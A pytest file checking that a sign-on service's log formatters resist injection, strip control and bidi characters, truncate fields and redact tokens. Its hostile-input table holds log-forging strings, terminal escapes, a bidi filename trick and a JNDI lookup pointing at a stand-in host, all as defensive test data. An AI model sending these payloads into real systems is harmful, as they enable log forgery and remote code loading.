"""One line for each event, that nobody else can write into, and nothing secret in it."""

from __future__ import annotations

import json
import logging
import sys
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cognito_sso.observability import Asked, configure_logging
from cognito_sso.observability.logs import FIELDS, LONGEST_FIELD, JsonFormatter, TextFormatter, clean

TOKEN = "eyJhbGciOiJSUzI1NiJ9.eyJjYW5hcnkiOjF9.c2lnbmF0dXJl"
HOSTILE_SEC_362 = {
    "another-line": 'x\n{"level": "info", "message": "login_completed", "sub": "admin"}',
    "carriage-return": "x\r\nx",
    "ansi": "\x1b[2J\x1b]0;title\x07",
    "c1-control": "\x9b2J",
    "bidi": "\u202egnp.exe",
    "isolates": "\u2066x\u2069",
    "line-separators": "x\u2028x\u2029x\x85x\x0bx\x0c",
    "zero-width": "x\u200bx\ufeff",
    "nul": "x\0",
    "delete": "x\x7f",
    "lone-surrogate": "x\ud800",
    "lookup": "${jndi:ldap://evil.example/x}",
    "formats": "%s%n%(message)s {0.__class__}",
    "quotes": '","level":"critical","x":"',
    "backslashes": "\\n\\u0000\\",
    "emoji": "\U0001f600",
    "long": "x" * 100_000,
}


def record(
    message: str = "event", *arguments: Any, fields: dict[str, Any] | None = None, error: Exception | None = None
) -> logging.LogRecord:
    exc_info = (type(error), error, error.__traceback__) if error else None
    one = logging.LogRecord("cognito_sso.audit", logging.INFO, __file__, 1, message, arguments, exc_info)
    setattr(one, FIELDS, fields or {})
    return one


def raised(text: str) -> RuntimeError:
    """An error with a traceback."""
    with pytest.raises(RuntimeError) as caught:
        raise RuntimeError(text)
    return caught.value


@pytest.mark.parametrize("text", HOSTILE_SEC_362.values(), ids=HOSTILE_SEC_362)
@pytest.mark.parametrize("formatter", [JsonFormatter(), TextFormatter()], ids=["json", "text"])
def test_one_physical_line_without_a_control_character_sec_362(formatter: logging.Formatter, text: str) -> None:
    line = formatter.format(record(text.replace("%", "%%"), fields={"domain": text}))
    assert len(line.splitlines()) == 1
    assert line.isprintable() or formatter.__class__ is JsonFormatter
    assert not [character for character in line if ord(character) < 0x20 or 0x7F <= ord(character) < 0xA0]
    assert not {"\u202e", "\u2066", "\u200b", "\ufeff", "\u2028"} & set(line)
    assert len(line) < 1500
    line.encode()  # no lone surrogate is left that the stream would choke on


@given(
    st.dictionaries(
        st.text(st.sampled_from("abcdef"), min_size=1), st.text() | st.integers() | st.booleans() | st.none()
    )
)
def test_a_line_is_always_json(fields: dict[str, Any]) -> None:
    members = json.loads(JsonFormatter().format(record(fields={f"x_{name}": value for name, value in fields.items()})))
    assert (members["level"], members["message"]) == ("info", "event")
    assert set(members) >= {f"x_{name}" for name in fields}


def test_a_field_is_cut_at_256_characters() -> None:
    assert clean("x" * 10_000) == "x" * LONGEST_FIELD + "…"
    assert clean("x" * LONGEST_FIELD) == "x" * LONGEST_FIELD


@pytest.mark.parametrize("value", [None, True, False, 0, -1, 1.5])
def test_numbers_and_flags_stay_as_they_are(value: Any) -> None:
    assert clean(value) is value


def test_letters_of_latin_scripts_stay_readable() -> None:
    assert clean("Zoë Łukasz München") == "Zoë Łukasz München"


@pytest.mark.parametrize(
    "text",
    [TOKEN, f"Bearer {TOKEN}", f"x={TOKEN}&y", "Authorization: bearer abcdefghijklmnopqrstuvwx", f"{TOKEN}{TOKEN}"],
)
@pytest.mark.parametrize("formatter", [JsonFormatter(), TextFormatter()], ids=["json", "text"])
def test_nothing_that_looks_like_a_token_leaves_whoever_logged_it(formatter: logging.Formatter, text: str) -> None:
    line = formatter.format(record("%s", text, fields={"reason": text}, error=raised(text)))
    assert "eyJ" not in line
    assert "abcdefghijklmnopqrstuvwx" not in line
    assert "[token]" in line


@pytest.mark.parametrize("formatter", [JsonFormatter(), TextFormatter()], ids=["json", "text"])
def test_a_traceback_is_whole_and_harmless(formatter: logging.Formatter) -> None:
    line = formatter.format(record(error=raised("\x1b[2J\u202e\ud800\x9b")))
    assert "RuntimeError" in line
    assert "in raised" in line
    assert not {"\x1b", "\u202e", "\x9b"} & set(line)
    line.encode()


def test_a_json_traceback_is_on_the_same_line() -> None:
    line = JsonFormatter().format(record(error=raised("x")))
    assert "\n" not in line
    assert "\n" in json.loads(line)["traceback"]


def test_a_line_names_its_request_and_only_within_one() -> None:
    assert "request_id" not in json.loads(JsonFormatter().format(record()))
    with Asked({"headers": [(b"x-request-id", b"abc")]}):
        assert json.loads(JsonFormatter().format(record()))["request_id"] == "abc"
    assert "request_id" not in json.loads(JsonFormatter().format(record()))


@pytest.mark.parametrize("style", ["json", "text"])
def test_everything_goes_to_standard_error_in_one_format(style: str, capsys: pytest.CaptureFixture[str]) -> None:
    root = logging.getLogger()
    before, level = root.handlers[:], root.level
    try:
        configure_logging(style=style, level="info")
        root.handlers[0].setStream(sys.stderr)  # type: ignore[attr-defined]
        logging.getLogger("somebody.else").info("hello %s", "you")
        logging.getLogger("somebody.else").debug("not this")
        logging.getLogger("httpx").info("HTTP Request: GET https://x/?code=canary")
        logging.getLogger("httpcore").info("canary")
    finally:
        root.handlers[:] = before
        root.setLevel(level)
    told = capsys.readouterr()
    assert told.out == ""
    assert "hello you" in told.err
    assert "canary" not in told.err
    assert len(told.err.splitlines()) == 1
